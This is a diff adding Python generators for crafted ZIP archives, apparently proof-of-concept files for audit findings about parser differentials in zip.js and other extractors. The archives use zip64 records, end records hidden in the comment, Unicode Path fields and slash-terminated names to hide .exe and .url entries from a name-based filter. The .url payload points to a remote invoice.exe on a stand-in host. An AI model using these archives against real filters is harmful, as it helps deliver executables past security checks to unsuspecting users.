@@ -302,6 +302,121 @@ def make_upath_local():
         zl.write("upath_local_" + ext, out + cd + zl.eocd(1, len(cd), len(out)))
 
 
+def make_z64split():
+    # Finding 1: agreeingZip64End checks the zip64 record's entry count and that *some* run of
+    # central records ends at it, but never that its CD offset/size are the end record's.
+    # zip.js follows the 32-bit end record (txt); Python/unzip/7z/bsdtar may follow the zip64 one (exe).
+    def z64rec(n, cdsize, cdoff):
+        return struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, n, n, cdsize, cdoff)
+    def z64loc(recoff):
+        return struct.pack("<IIQI", 0x07064b50, 0, recoff, 1)
+    def build(variant):
+        out = b""; cds = []
+        for name, data in [(b"a.txt", TXT), (b"a.exe", MZ)]:
+            comp = deflate(data); crc = zlib.crc32(data); off = len(out)
+            out += lh(name, 8, crc, len(comp), len(data)) + comp
+            cds.append(ch(name, 8, crc, len(comp), len(data), off))
+        cdoff_txt = len(out); cdoff_exe = cdoff_txt + len(cds[0])
+        cd = cds[0] + cds[1]
+        rec = cdoff_txt + len(cd)
+        if variant == "a":   # EOCD: 1 entry at txt, size of txt record
+            e = eocd(1, len(cds[0]), cdoff_txt)
+        else:                # EOCD: 1 entry at txt, size of both
+            e = eocd(1, len(cd), cdoff_txt)
+        return out + cd + z64rec(1, len(cds[1]), cdoff_exe) + z64loc(rec) + e
+    write("f1a", build("a"))
+    write("f1b", build("b"))
+
+
+def make_comment_eocd():
+    # Finding 2: an end record + zip64 locator/record + central record hidden in the real end
+    # record's comment. zip.js takes the real end record (the fake one's directory is not
+    # "reachable"); Python's zipfile takes the last 22 bytes (the fake), follows its zip64 record.
+    def z64rec(n, cdsize, cdoff):
+        return struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, n, n, cdsize, cdoff)
+    def z64loc(recoff):
+        return struct.pack("<IIQI", 0x07064b50, 0, recoff, 1)
+    def build(trailing):
+        out = b""; cds = []
+        for name, data in [(b"a.txt", TXT), (b"a.exe", MZ)]:
+            comp = deflate(data); crc = zlib.crc32(data); off = len(out)
+            out += lh(name, 8, crc, len(comp), len(data)) + comp
+            cds.append(ch(name, 8, crc, len(comp), len(data), off))
+        cdoff = len(out)
+        cd = cds[0] + (cds[1] if trailing else b"")   # trailing: exe record after txt, count says 1
+        real_eocd_at = cdoff + len(cd)
+        copy_at = real_eocd_at + 22
+        rec_at = copy_at + len(cds[1])
+        comment = cds[1] + z64rec(1, len(cds[1]), copy_at) + z64loc(rec_at)
+        # fake end record: count 1, its 32-bit size/offset point at nothing
+        comment += struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 1, 1, 1, 1, 0)
+        return out + cd + eocd(1, len(cd), cdoff, comment)
+    write("f2a", build(False))
+    write("f2b", build(True))
+
+
+def make_comment_fools():
+    # agreeingZip64End takes the last end-record signature, even one inside the comment: an empty
+    # zip64 record + locator + end record in the comment (0 entries, directory == record) makes the
+    # check pass, and zip.js's "trailing central directory data" (an exe record after the txt one,
+    # count 1) is dropped. f2c_ctl: same zip without the comment -> unchecked.
+    def build(with_comment):
+        out = b""; cds = []
+        for name, data in [(b"a.txt", TXT), (b"a.exe", MZ)]:
+            comp = deflate(data); crc = zlib.crc32(data); off = len(out)
+            out += lh(name, 8, crc, len(comp), len(data)) + comp
+            cds.append(ch(name, 8, crc, len(comp), len(data), off))
+        cdoff = len(out); cd = cds[0] + cds[1]
+        rec_at = cdoff + len(cd) + 22
+        comment = b""
+        if with_comment:
+            comment = struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, 0, 0, 0, rec_at)
+            comment += struct.pack("<IIQI", 0x07064b50, 0, rec_at, 1)
+            comment += struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 0, 0, 0, 0, 7) + b"padding"
+        return out + cd + eocd(1, len(cd), cdoff, comment)
+    write("f2c", build(True)); write("f2c_ctl", build(False))
+
+
+def make_upath_nonascii():
+    # Finding 3: a raw name whose extension is not ASCII switches the Unicode Path comparison
+    # off for both the central and the local field. zip.js takes the central field (a.txt),
+    # bsdtar the local one (a.url): a name-only rule never sees .url.
+    URL = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/invoice.exe\r\nIconIndex=0\r\n"
+    def upath(raw, name, crc=None):
+        d = struct.pack("<BI", 1, zlib.crc32(raw) if crc is None else crc) + name
+        return struct.pack("<HH", 0x7075, len(d)) + d
+    def build(raw, central_name, local_name, data=URL):
+        comp = deflate(data); crc = zlib.crc32(data)
+        cx = upath(raw, central_name) if central_name else b""
+        lx = upath(raw, local_name) if local_name else b""
+        l = lh(raw, 8, crc, len(comp), len(data), extra=lx) + comp
+        c = ch(raw, 8, crc, len(comp), len(data), 0, extra=cx)
+        return l + c + eocd(1, len(c), len(l))
+    write("f3a", build(b"a.\x82", b"a.txt", b"a.url"))          # raw ext non-ASCII
+    write("f3b", build(b"a.url\xff", b"a.txt", b"a.url"))       # raw ext 'url\xff'
+    write("f3c", build(b"a.txt", b"a.txt", b"a.url"))           # control: ASCII raw ext -> flagged
+
+
+def make_dirs_with_data():
+    # Directory rule probes: names ending in "/" or "\\" that carry data, with/without dir attributes.
+    URL = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/invoice.exe\r\nIconIndex=0\r\n"
+    def one(name, made, ext_attr, data=URL, also=True):
+        out=b""; cd=b""
+        items=[(name, data, made, ext_attr)]
+        if also: items.append((b"readme.txt", TXT, 20, 0))
+        for n, d, m, a in items:
+            comp = deflate(d); crc = zlib.crc32(d); off=len(out)
+            out += lh(n, 8, crc, len(comp), len(d)) + comp
+            cd += ch(n, 8, crc, len(comp), len(d), off, ext_attr=a, made=m)
+        return out + cd + eocd(len(items), len(cd), len(out))
+    write("f4a", one(b"a.url/", 20, 0))                       # slash, file attrs (DOS)
+    write("f4b", one(b"a.url\\", 20, 0x10))                   # backslash, DOS dir bit, made-by DOS
+    write("f4c", one(b"a.url\\", 0x300|20, (0o040755<<16)))   # backslash, unix dir mode
+    write("f4d", one(b"a.url/", 0x300|20, (0o100644<<16)))    # slash, unix regular-file mode
+    write("f4e", one(b"a.url\\", 0x0b00|20, 0x10))            # backslash, NTFS host, dir bit
+    write("f4f", one(b"a.exe\\", 20, 0x10, data=MZ))          # backslash PE
+
+
 if __name__ == "__main__":
     for name, make in sorted(globals().items()):
         if name.startswith("make_"):
